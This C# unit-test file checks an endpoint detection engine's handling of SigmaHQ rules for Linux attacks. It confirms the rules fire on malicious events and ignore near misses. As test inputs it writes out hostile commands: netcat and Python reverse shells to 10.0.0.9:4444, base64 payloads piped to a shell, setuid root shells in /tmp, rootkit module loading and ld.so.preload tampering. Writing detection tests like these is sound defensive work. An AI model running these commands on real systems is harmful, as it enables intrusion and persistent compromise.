using System.Text;
using Osprey.Contracts.V1;
using Osprey.Detection.Sigma;
using Xunit;
using static Osprey.Detection.Tests.Sigma.SigmaEvents;

namespace Osprey.Detection.Tests.Sigma;

/// <summary>Real SigmaHQ rules against the events the activity they describe produces on a Linux host with Osprey's agent, and against near misses.</summary>
public sealed class SigmaCorpusRuleTests
{
    private static readonly Lazy<SigmaEngine> AllRules = new(() => new SigmaEngine(SigmaCorpus.Results.Where(r => r.Compiled is not null).Select(r => r.Compiled!)));

    private static bool Fires(string rule, Event e)
    {
        var compiled = SigmaCorpus.CompiledRule(rule);
        var alone = new SigmaEngine([compiled]).Evaluate(e).Count > 0;
        var amongAll = AllRules.Value.Evaluate(e).Any(m => m.Rule == compiled);
        Assert.Equal(alone, amongAll);
        return alone;
    }

    [Fact]
    public void Base64DecodedCommandPipedToAShell()
    {
        const string Rule = "rules/linux/process_creation/proc_creation_lnx_base64_execution.yml";
        var payload = Convert.ToBase64String(Encoding.UTF8.GetBytes("id > /tmp/owned"));
        Assert.True(Fires(Rule, Exec("/usr/bin/sh", ["sh", "-c", $"echo {payload} | base64 -d | sh"])));
        Assert.True(Fires(Rule, Exec("/usr/bin/bash", ["bash", "-c", $"echo {payload}|base64 --decode |bash -s"])));
        Assert.False(Fires(Rule, Exec("/usr/bin/sh", ["sh", "-c", $"echo {payload} | base64 -d > /tmp/out"])));
        Assert.False(Fires(Rule, Exec("/usr/bin/base64", ["base64", "-d", "/tmp/in"])));

        const string Decode = "rules/linux/process_creation/proc_creation_lnx_base64_decode.yml";
        Assert.True(Fires(Decode, Exec("/usr/bin/base64", ["base64", "-d"])));
        Assert.False(Fires(Decode, Exec("/usr/bin/base64", ["base64", "/etc/hostname"])));
    }

    [Fact]
    public void NewFileInEtcCronD()
    {
        const string Rule = "rules/linux/file_event/file_event_lnx_susp_cron_file_created.yml";
        Assert.True(Fires(Rule, FileCreate("/etc/cron.d/osprey-test", "/usr/bin/tee")));
        Assert.True(Fires(Rule, FileRename("/tmp/job", "/etc/cron.hourly/job")));
        Assert.True(Fires(Rule, FileModify("/etc/crontab")));
        Assert.False(Fires(Rule, FileCreate("/etc/cron.daily/apt", "/usr/bin/dpkg")));
        Assert.False(Fires(Rule, FileCreate("/etc/cronjobs/x")));
        Assert.False(Fires(Rule, FileDelete("/etc/cron.d/osprey-test")));
    }

    [Fact]
    public void SetuidBitSetOnAFileInTmp()
    {
        const string Chmod = "rules/linux/process_creation/proc_creation_lnx_chmod_targeting_sensitive_directories.yml";
        Assert.True(Fires(Chmod, Exec("/usr/bin/chmod", ["chmod", "u+s", "/tmp/rootshell"])));
        Assert.True(Fires(Chmod, Exec("/usr/bin/chmod", ["chmod", "4755", "/tmp/rootshell"])));
        Assert.False(Fires(Chmod, Exec("/usr/bin/chmod", ["chmod", "700", "/tmp/apt-key-gpghome.AbC123"])));
        Assert.False(Fires(Chmod, Exec("/usr/bin/chmod", ["chmod", "u+s", "/home/alice/bin/x"])));

        const string Setuid = "rules/linux/process_creation/proc_creation_lnx_setgid_setuid.yml";
        Assert.True(Fires(Setuid, Exec("/usr/bin/sh", ["sh", "-c", "chown root /tmp/rootshell; chmod u+s /tmp/rootshell"])));
        Assert.False(Fires(Setuid, Exec("/usr/bin/sh", ["sh", "-c", "chown root /tmp/rootshell"])));

        const string Auditd = "rules/linux/auditd/execve/lnx_auditd_susp_cmds.yml";
        Assert.True(Fires(Auditd, Exec("/usr/bin/chmod", ["chmod", "u+s", "/tmp/rootshell"])));
        Assert.True(Fires(Auditd, Exec("/usr/bin/chmod", ["chmod", "777", "/tmp/x"])));
        Assert.False(Fires(Auditd, Exec("/usr/bin/chmod", ["chmod", "u+x", "/tmp/x"])));
    }

    [Fact]
    public void ReverseShells()
    {
        const string Netcat = "rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml";
        Assert.True(Fires(Netcat, Exec("/usr/bin/nc", ["nc", "10.0.0.9", "4444", "-e", "/bin/bash"])));
        Assert.False(Fires(Netcat, Exec("/usr/bin/nc", ["nc", "-l", "4444"])));

        const string Python = "rules/linux/process_creation/proc_creation_lnx_python_reverse_shell.yml";
        var oneLiner = "import socket,subprocess,os,pty;s=socket.socket();s.connect((\"10.0.0.9\",4444));pty.spawn(\"/bin/sh\")";
        Assert.True(Fires(Python, Exec("/usr/bin/python3.11", ["python3", "-c", oneLiner])));
        Assert.False(Fires(Python, Exec("/usr/bin/python3.11", ["python3", "-c", "import socket; print(1)"])));
    }

    [Fact]
    public void RegexRules()
    {
        const string Inode = "rules/linux/process_creation/proc_creation_lnx_susp_inod_listing.yml";
        Assert.True(Fires(Inode, Exec("/usr/bin/ls", ["ls", "-lid", "/"])));
        Assert.False(Fires(Inode, Exec("/usr/bin/ls", ["ls", "-la", "/"])));

        const string PythonPath = "rules-threat-hunting/linux/file/file_event/file_event_lnx_python_path_configuration_files.yml";
        Assert.True(Fires(PythonPath, FileCreate("/usr/LIB/python3.12/site-packages/evil.pth", "/usr/bin/pip")));
        Assert.False(Fires(PythonPath, FileCreate("/usr/lib/python3.4/site-packages/evil.pth", "/usr/bin/pip")));
        Assert.False(Fires(PythonPath, FileCreate("/usr/lib/python3.12/site-packages/evil.py", "/usr/bin/pip")));
    }

    [Fact]
    public void MalwareCallbackPort_OutboundToAPublicAddress()
    {
        const string Rule = "rules/linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml";
        Assert.True(Fires(Rule, Connection("/tmp/x", "10.0.0.5", 51000, "203.0.113.9", 4444)));
        Assert.True(Fires(Rule, Connection("/tmp/x", "2001:db8::5", 51000, "2001:db8::9", 2222)));
        Assert.False(Fires(Rule, Connection("/tmp/x", "10.0.0.5", 51000, "10.0.0.9", 4444)));
        Assert.False(Fires(Rule, Connection("/tmp/x", "10.0.0.5", 51000, "fd00::9", 4444)));
        Assert.False(Fires(Rule, Connection("/tmp/x", "10.0.0.5", 4444, "203.0.113.9", 51000, Direction.Inbound)));
        Assert.False(Fires(Rule, Connection("/tmp/x", "10.0.0.5", 51000, "203.0.113.9", 443)));
    }

    [Fact]
    public void OmigodShellCommand_NeedsRootLoginAndTheScxDirectory()
    {
        const string Rule = "rules/linux/process_creation/proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml";
        Assert.True(Fires(Rule, Exec("/bin/sh", ["/bin/sh", "-c", "id"], cwd: "/var/opt/microsoft/scx/tmp")));
        Assert.False(Fires(Rule, Exec("/bin/sh", ["/bin/sh", "-c", "id"], user: "omi", uid: "998", cwd: "/var/opt/microsoft/scx/tmp")));
        Assert.False(Fires(Rule, Exec("/bin/sh", ["/bin/sh", "-c", "id"])));
    }

    [Fact]
    public void AuditdRules_OnProcessStartsAndFileChanges()
    {
        const string Insmod = "rules/linux/auditd/syscall/lnx_auditd_load_module_insmod.yml";
        Assert.True(Fires(Insmod, Exec("/usr/bin/kmod", ["insmod", "/tmp/rootkit.ko"])));
        Assert.False(Fires(Insmod, Exec("/usr/bin/kmod", ["lsmod"])));

        const string Preload = "rules/linux/auditd/path/lnx_auditd_ld_so_preload_mod.yml";
        Assert.True(Fires(Preload, FileModify("/etc/ld.so.preload", "/usr/bin/tee")));
        Assert.False(Fires(Preload, FileModify("/etc/ld.so.conf", "/usr/bin/tee")));

        const string WebRce = "rules/linux/auditd/syscall/lnx_auditd_web_rce.yml";
        Assert.True(Fires(WebRce, Exec("/usr/bin/id", ["id"], user: "www-data", uid: "33")));
        Assert.False(Fires(WebRce, Exec("/usr/bin/id", ["id"], user: "alice", uid: "1000")));

        const string Padding = "rules/linux/auditd/execve/lnx_auditd_binary_padding.yml";
        Assert.True(Fires(Padding, Exec("/usr/bin/truncate", ["truncate", "-s", "+10M", "/tmp/implant"])));
        Assert.True(Fires(Padding, Exec("/usr/bin/dd", ["dd", "if=/dev/zero", "bs=1M", "count=5"])));
        Assert.False(Fires(Padding, Exec("/usr/bin/dd", ["dd", "if=/dev/zero", "of=/tmp/disk.img"])));
    }

    [Fact]
    public void ADnsQueryRule()
    {
        var yaml = """
            title: DNS Query To Ngrok Tunnel Domains - Linux
            id: 3e0ad2c6-1a2b-4b4c-9d7e-000000000053
            status: experimental
            level: high
            tags:
                - attack.command-and-control
                - attack.t1572
            logsource:
                category: dns_query
                product: linux
            detection:
                selection:
                    QueryName|endswith:
                        - '.ngrok.io'
                        - '.ngrok-free.app'
                        - '.ngrok.com'
                filter_main_failed:
                    QueryStatus: '9003'
                condition: selection and not 1 of filter_main_*
            """;
        var result = Assert.Single(new SigmaCompiler().Compile(yaml, "dns_query_lnx_ngrok.yml"));
        Assert.Equal(SigmaCompileStatus.Compiled, result.Status);
        var engine = new SigmaEngine([result.Compiled!]);
        Assert.Single(engine.Evaluate(Dns("c2.eu.ngrok.io", "/tmp/agent", "NOERROR", "3.124.142.205")));
        Assert.Empty(engine.Evaluate(Dns("c2.eu.ngrok.io", "/tmp/agent", "NXDOMAIN")));
        Assert.Empty(engine.Evaluate(Dns("ngrok.io.example.org", "/tmp/agent", "NOERROR", "192.0.2.1")));
        Assert.Equal(["T1572"], result.Rule!.AttackTechniques);
    }

    [Fact]
    public void BenignActivity_FiresNoHighOrCriticalRule()
    {
        Event[] benign =
        [
            Exec("/usr/bin/ls", ["ls", "-la", "/home/alice"]),
            Exec("/usr/bin/git", ["git", "status"], cwd: "/home/alice/src"),
            Exec("/usr/bin/apt-get", ["apt-get", "update"]),
            FileModify("/home/alice/notes.txt", "/usr/bin/vim"),
            Connection("/usr/bin/curl", "10.0.0.5", 51000, "93.184.216.34", 443),
            Dns("debian.org", "/usr/bin/apt-get", "NOERROR", "130.89.148.77"),
        ];
        foreach (var e in benign)
        {
            var serious = AllRules.Value.Evaluate(e).Where(m => m.Rule.Rule.Level >= SigmaLevel.High).Select(m => m.Rule.ToString()).ToList();
            Assert.True(serious.Count == 0, $"{e.Type}: {string.Join(", ", serious)}");
        }
    }
}
